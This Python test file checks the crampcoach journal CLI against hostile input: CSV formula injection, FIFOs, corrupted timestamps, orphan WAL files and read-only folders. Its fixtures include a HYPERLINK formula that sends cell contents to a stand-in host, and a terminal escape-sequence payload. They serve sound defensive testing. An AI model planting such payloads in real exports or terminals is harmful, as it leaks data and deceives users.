"""The journal and its exchange files against hostile or broken input (issue 11, cases 9, 11
and 14): formula cells neutralised in CSV and restored on import, FIFOs refused, a hand-edited
impossible time named rather than a traceback, a read-only folder readable, an orphan -wal
file never deleted."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from crampcoach.cli import cli
from crampcoach.journal.exchange import export_text, read_export
from crampcoach.journal.store import Journal, Rating, Session

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "+1+1", "-2", "@SUM(A1:A9)",
            "\tTab first", "\rCarriage return first", "'Quoted already", "''", "'=1", "Plain"]


def _run(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def _fixed_clock() -> Iterator[datetime]:
    minute = 0
    while True:
        minute += 1
        yield datetime(2026, 3, 1, 22, minute % 60, tzinfo=UTC)


def _journal_with_notes(path: Path) -> None:
    clock = _fixed_clock()
    with Journal.open(path, clock=lambda: next(clock)) as journal:
        for note in FORMULAS:
            journal.add_rating(4, note=note, routine=note)


def test_the_neurologist_s_csv_has_no_live_formula_cell(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _journal_with_notes(journal)
    result = _run("history", "export", "--format", "csv", "--journal", str(journal))
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    assert [row[-1] for row in rows] == [
        "'" + note if note.startswith(("=", "+", "-", "@", "\t", "\r")) else note
        for note in FORMULAS]


def _records(path: Path) -> tuple[list[Session], list[Rating]]:
    records = read_export(path)
    return list(records.sessions), list(records.ratings)


def test_format_1_csv_marks_formula_cells_and_reads_back_exactly(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _journal_with_notes(journal)
    with Journal.open(journal) as opened:
        sessions, ratings = opened.sessions(), opened.ratings()
    exported = tmp_path / "export.csv"
    exported.write_text(export_text(sessions, ratings, "csv", datetime(2026, 3, 2, tzinfo=UTC)),
                        newline="")
    with exported.open(newline="") as f:
        cells = [row[-1] for row in csv.reader(f)][3:]
    assert cells[:3] == ["'" + FORMULAS[0], "'+1+1", "'-2"]
    assert cells[6:9] == ["''Quoted already", "'''", "''=1"]
    assert _records(exported) == ([], ratings)


def test_a_format_1_csv_written_before_keeps_its_quotes(tmp_path: Path) -> None:
    old = tmp_path / "old.csv"
    old.write_text("# crampcoach journal export format 1 made 2025-01-01T00:00:00.000000Z\n"
                   "record,id,time_utc,rating,note\n"
                   "rating,abc,2025-01-01T00:00:00.000000Z,3,'tis the cramp\n")
    _, [rating] = _records(old)
    assert rating.note == "'tis the cramp"


def test_a_fifo_as_the_import_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "export.csv"
    os.mkfifo(fifo)
    result = _run("history", "import", str(fifo), "--journal", str(tmp_path / "j.sqlite3"))
    assert (result.exit_code, result.stderr) == (
        1, f"Error: {fifo}: not a regular file (a FIFO, device or socket). "
           "Nothing was imported.\n")
    assert not (tmp_path / "j.sqlite3").exists()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_an_impossible_time_edited_into_a_row_is_named(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _run("rate", "3", "--journal", str(journal))
    with contextlib.closing(sqlite3.connect(journal)) as db, db:
        db.execute("UPDATE ratings SET at = '2026-13-39T25:59:00.000000Z', uuid = 'edited'")
    db.close()
    before = _digest(journal)
    for command in (["history", "export"], ["history", "export", "--format", "json"]):
        result = _run(*command, "--journal", str(journal))
        assert (result.exit_code, result.stdout) == (1, "")
        assert result.stderr == (
            f"Error: the journal {journal} holds a rating (id edited) with an impossible time "
            "'2026-13-39T25:59:00.000000Z'. It was left untouched; correct that time with the "
            "sqlite3 program.\n")
    assert _digest(journal) == before


def test_an_orphan_wal_file_is_never_deleted(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite3"
    _run("rate", "5", "--journal", str(journal))
    # Records still in the write-ahead log when the journal itself went missing.
    holder = sqlite3.connect(journal)
    holder.execute("PRAGMA wal_autocheckpoint = 0")
    holder.execute("INSERT INTO ratings (uuid, at, value) "
                   "VALUES ('in-wal', '2026-01-01T00:00:00.000000Z', 7)")
    holder.commit()
    wal = tmp_path / "journal.sqlite3-wal"
    saved = wal.read_bytes()
    holder.close()
    journal.unlink()
    (tmp_path / "journal.sqlite3-shm").unlink(missing_ok=True)
    wal.write_bytes(saved)
    for command in (["rate", "3"], ["history"], ["history", "export"]):
        result = _run(*command, "--journal", str(journal))
        assert (result.exit_code, result.stderr) == (
            1, f"Error: {wal} is there without its journal {journal}: it may hold records. It "
               "was left untouched; put the journal back beside it, or move it aside to start "
               "afresh.\n")
    assert wal.read_bytes() == saved
    assert not journal.exists()


@pytest.fixture
def shared_folder() -> Iterator[Path]:
    """A folder another user can read (pytest's own are private to their owner)."""
    folder = Path(tempfile.mkdtemp(prefix="crampcoach-ro-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        folder.chmod(0o755)
        shutil.rmtree(folder)


def _readable_copy_of_the_reader(into: Path) -> str:
    """crampcoach and the packages ``history export`` imports, copied where anyone may read.

    The checkout (and its venv) may sit in a folder other users cannot enter, such as root's
    home or a private temporary folder: the other user must not need it.
    """
    import importlib.util

    into.mkdir()
    for name in ("crampcoach", "click", "yaml"):
        spec = importlib.util.find_spec(name)
        assert spec is not None
        assert spec.submodule_search_locations
        shutil.copytree(next(iter(spec.submodule_search_locations)), into / name,
                        ignore=shutil.ignore_patterns("__pycache__"))
    for path in (into, *into.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return str(into)


def test_a_journal_in_a_read_only_folder_can_be_read(shared_folder: Path) -> None:
    journal = shared_folder / "journal.sqlite3"
    assert _run("rate", "6", "--journal", str(journal)).exit_code == 0
    journal.chmod(0o644)
    python, as_user, reader = sys.executable, {}, str(Path(__file__).parents[1] / "src")
    if os.geteuid() == 0:
        # Root may write anywhere: then the reader is another user, as on a shared machine,
        # with the system's Python and a copy of the reader it can enter.
        python, as_user = "/usr/bin/python3", {"user": 65534}
        reader = _readable_copy_of_the_reader(Path(tempfile.mkdtemp()) / "reader")
        Path(reader).parent.chmod(0o755)
    else:
        site = next(p for p in sys.path if p.endswith("site-packages"))
        reader = f"{reader}{os.pathsep}{site}"
    shared_folder.chmod(0o555)
    try:
        done = subprocess.run(
            [python, "-m", "crampcoach", "history", "export", "--format", "json",
             "--journal", str(journal)],
            capture_output=True, text=True, check=False, timeout=60, cwd="/",
            env={"PATH": "/usr/bin:/bin", "HOME": str(shared_folder), "PYTHONPATH": reader},
            **as_user)
    finally:
        if os.geteuid() == 0:
            shutil.rmtree(Path(reader).parent)
    assert (done.returncode, done.stderr) == (0, "")
    [record] = json.loads(done.stdout)["records"]
    assert record["rating"] == 6
    assert sorted(p.name for p in shared_folder.iterdir()) == ["journal.sqlite3"]


def test_history_shows_an_imported_routine_s_escapes_escaped(tmp_path: Path) -> None:
    export = tmp_path / "shared.csv"
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.000000Z")
    export.write_text("record,id,time_utc,routine,rating\n"
                      f"rating,abc,{now},\x1b]0;owned\x07\x1b[2J,4\n")
    journal = tmp_path / "journal.sqlite3"
    assert _run("history", "import", str(export), "--journal", str(journal)).exit_code == 0
    result = _run("history", "--journal", str(journal))
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout
    assert "\x07" not in result.stdout
    assert "(\\x1b]0;owned\\x07\\x1b[2J)" in result.stdout
    # Kept as it was: the export gives it back exactly.
    exported = _run("history", "export", "--format", "json", "--journal", str(journal))
    assert json.loads(exported.stdout)["records"][0]["routine"] == "\x1b]0;owned\x07\x1b[2J"
